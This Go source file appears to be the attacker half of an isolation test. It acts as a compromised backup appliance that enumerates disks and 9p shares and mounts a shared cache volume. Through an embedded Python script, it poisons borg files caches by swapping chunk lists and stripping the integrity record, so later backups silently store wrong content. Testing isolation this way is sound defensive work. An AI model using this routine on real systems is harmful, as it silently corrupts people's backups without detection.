// Command attacker plays a compromised backup appliance (the isolation
// test runs it in mode exec in place of a client's backup job, with the
// disks and shares hostctl gave that job): it lists every disk and 9p
// share it sees, mounts the cache volume, lists what is on it, and poisons
// every borg cache it finds there. The poison is silent: each files-cache
// entry gets another entry's chunk list, so that the next backup of a file
// that did not change records another file's content, and borg check finds
// nothing wrong (every chunk exists). Every line it prints starts with a
// word the test looks for: DISK, SHARE, CACHE, POISONED.
package main

import (
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// poison rotates the chunk lists of every borg files cache below argv[1],
// with borg's own modules (python3 and borg are in the userland), and drops
// the files cache's integrity record so that borg reads it without checking.
const poison = `
import sys, os, glob, configparser
from borg.helpers import msgpack
from borg.cache import FileCacheEntry
for d in glob.glob(sys.argv[1] + '/**/.cache/borg/*/', recursive=True):
    f = os.path.join(d, 'files')
    if not os.path.exists(f):
        continue
    entries = []
    with open(f, 'rb') as fd:
        u = msgpack.Unpacker(use_list=True)
        u.feed(fd.read())
        for path_hash, item in u:
            entries.append((path_hash, FileCacheEntry(*item)))
    if len(entries) < 2:
        print('CACHE too few entries to poison in', f)
        continue
    ids = [e.chunk_ids for _, e in entries]
    ids = ids[1:] + ids[:1]
    with open(f, 'wb') as fd:
        for (ph, e), c in zip(entries, ids):
            msgpack.pack((ph, e._replace(chunk_ids=c)), fd)
    cfg = configparser.ConfigParser(interpolation=None)
    cfg.read(os.path.join(d, 'config'))
    if cfg.has_option('integrity', 'files'):
        cfg.remove_option('integrity', 'files')
    with open(os.path.join(d, 'config'), 'w') as fd:
        cfg.write(fd)
    print('POISONED', f, len(entries), 'entries')
`

func main() {
	cacheDev := ""
	disks, _ := filepath.Glob("/sys/block/*/serial")
	for _, s := range disks {
		serial, err := os.ReadFile(s)
		if err != nil {
			continue
		}
		dev := filepath.Base(filepath.Dir(s))
		fmt.Printf("DISK %s %s\n", dev, strings.TrimSpace(string(serial)))
		if strings.TrimSpace(string(serial)) == "sb-cache" {
			cacheDev = dev
		}
	}
	tags, _ := filepath.Glob("/sys/bus/virtio/drivers/9pnet_virtio/*/mount_tag")
	for _, t := range tags {
		tag, _ := os.ReadFile(t)
		fmt.Printf("SHARE %s\n", strings.TrimRight(string(tag), "\x00\n"))
	}
	if cacheDev == "" {
		fmt.Println("CACHE none attached")
		return
	}
	mnt := "/run/attack/cache"
	if err := os.MkdirAll(mnt, 0o700); err != nil {
		fail(err)
	}
	if err := unix.Mount("/dev/"+cacheDev, mnt, "ext4", 0, ""); err != nil {
		fail(fmt.Errorf("mount the cache %s: %w", cacheDev, err))
	}
	defer unix.Unmount(mnt, 0)
	n := 0
	_ = filepath.WalkDir(mnt, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == mnt {
			return nil
		}
		if n++; n <= 2000 {
			fmt.Printf("CACHE %s\n", strings.TrimPrefix(p, mnt))
		}
		return nil
	})
	script := filepath.Join("/run/attack", "poison.py")
	if err := os.WriteFile(script, []byte(poison), 0o600); err != nil {
		fail(err)
	}
	out, err := exec.Command("/usr/bin/python3", script, mnt).CombinedOutput()
	fmt.Print(string(out))
	if err != nil {
		fail(fmt.Errorf("poison: %w", err))
	}
	unix.Sync()
}

func fail(err error) {
	fmt.Println("ATTACKER FAILED:", err)
	os.Exit(1)
}
